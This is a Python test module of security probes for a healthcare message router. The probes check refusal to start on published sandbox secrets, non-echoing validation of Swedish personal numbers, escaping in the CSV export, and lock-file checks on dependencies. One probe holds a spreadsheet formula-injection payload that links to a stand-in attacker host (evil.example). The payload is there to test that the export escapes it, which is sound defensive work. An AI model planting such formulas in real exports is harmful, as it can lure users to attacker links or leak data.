"""The attack probe's rows on what is refused before anyone is asked who they are (issue 19):
a router started with the published sandbox secrets, an invalid personnummer at the router
API's search, a formula in the access log's CSV export, and a dependency added without a
new lock. Each function is one row of :data:`sandbox.attack_probe.ATTACKS`."""

from __future__ import annotations

import csv
import io
import os
import secrets
import shutil
import subprocess
import sys
import tempfile
from pathlib import Path

from sandbox import lockfile
from sandbox.probe_support import OPS_TOKEN, PATIENT, WRONG_CHECK_DIGIT, Observation, Probe
from services.messaging import sandbox_secrets

# --- fail closed (issue 19) ---------------------------------------------------------------

NAMED = ("ROUTER_OPS_TOKEN", "ROUTER_CONSOLE_SECRET", "ROUTER_PSEUDONYM_KEY")


def production_on_sandbox_secrets(p: Probe) -> Observation:
    """``python -m services.router`` with nothing chosen: production, on the defaults, which
    are the published sandbox secrets."""
    with tempfile.TemporaryDirectory(prefix="carebridge-probe-router-") as tmp:
        database = Path(tmp) / "router.db"
        env = {
            "PATH": os.environ.get("PATH", "/usr/bin:/bin"),
            "PYTHONPATH": str(lockfile.ROOT),
            "ROUTER_DATABASE_URL": f"sqlite+aiosqlite:///{database}",
        }
        try:
            done = subprocess.run(
                [sys.executable, "-m", "services.router"],
                cwd=tmp,
                env=env,
                capture_output=True,
                text=True,
                timeout=60,
                check=False,
            )
        except subprocess.TimeoutExpired:
            return Observation("still running after 60 s", False, "it started")
        opened = database.exists()
    named = [name for name in NAMED if f"{name}: holds a published sandbox secret" in done.stderr]
    shown = [s for s in sandbox_secrets.PUBLISHED if s in done.stderr + done.stdout]
    return Observation(
        f"exit {done.returncode}",
        done.returncode == 2
        and named == list(NAMED)
        and not shown
        and "Traceback" not in done.stderr
        and not opened,
        f"named {', '.join(named) or 'nothing'}; {len(shown)} secret values shown"
        + ("; it opened the database" if opened else ""),
    )


# --- refusals that never repeat the value (issue 19) --------------------------------------


def api_search_never_echoes(p: Probe) -> Observation:
    """The search's schema refuses a malformed number, its handler a wrong check digit."""
    codes, faults = [], []
    for number in (WRONG_CHECK_DIGIT, PATIENT * 2):
        res = p.router(
            "POST",
            "/api/v1/messages/search/personnummer",
            OPS_TOKEN,
            json={"personnummer": number, "reason": "probe: ett felaktigt nummer"},
        )
        codes.append(res.status_code)
        if "personnummer" not in res.json().get("detail", ""):
            faults.append("the field not named")
        if number in res.text:
            faults.append("the value echoed")
    return Observation(
        "/".join(map(str, codes)),
        codes == [422, 422] and not faults,
        "; ".join(faults) or "check digit and length: the field named, never the value",
    )


# --- the access log's CSV export (issue 19) -----------------------------------------------


def csv_export_escapes_formulas(p: Probe) -> Observation:
    marker = secrets.token_hex(4)
    formula = f'=HYPERLINK("https://evil.example/{marker}","klicka")'
    body = {"personnummer": PATIENT, "reason": formula}
    search = p.router("POST", "/api/v1/messages/search/personnummer", OPS_TOKEN, json=body)
    export = p.router("GET", "/api/v1/access-log/export.csv", OPS_TOKEN)
    cells = [c for row in csv.reader(io.StringIO(export.text)) for c in row if marker in c]
    return Observation(
        f"{search.status_code}, export {export.status_code}",
        search.status_code == 200 and bool(cells) and all(c.startswith("'=") for c in cells),
        f"the reason's cell: {cells[0][:14]}…" if cells else "the entry is not exported",
    )


# --- the supply chain (issue 19) ----------------------------------------------------------


def dependency_without_a_lock(p: Probe) -> Observation:
    """pyproject.toml and its locks copied, a dependency added to the copy, and the offline
    lock check run on the copies (``make lock-check`` does the same first)."""
    with tempfile.TemporaryDirectory(prefix="carebridge-probe-lock-") as tmp:
        copied = Path(tmp)
        for name in ("pyproject.toml", *(lock.file for lock in lockfile.LOCKS)):
            shutil.copy(lockfile.ROOT / name, copied / name)
        pyproject = copied / "pyproject.toml"
        text = pyproject.read_text()
        if "dependencies = [\n" not in text:
            return Observation("not tried", False, "pyproject.toml has no dependencies list")
        pyproject.write_text(
            text.replace("dependencies = [\n", 'dependencies = [\n    "orjson>=3",\n', 1)
        )
        locks = {lock.file: (copied / lock.file).read_text() for lock in lockfile.LOCKS}
        before = lockfile.problems(text, locks)
        found = lockfile.problems(pyproject.read_text(), locks)
    named = [each for each in found if "orjson" in each]
    return Observation(
        f"{len(found)} problems" if found else "accepted",
        before == [] and bool(named) and any("run make lock" in each for each in found),
        named[0][:90] if named else "the new dependency not named",
    )
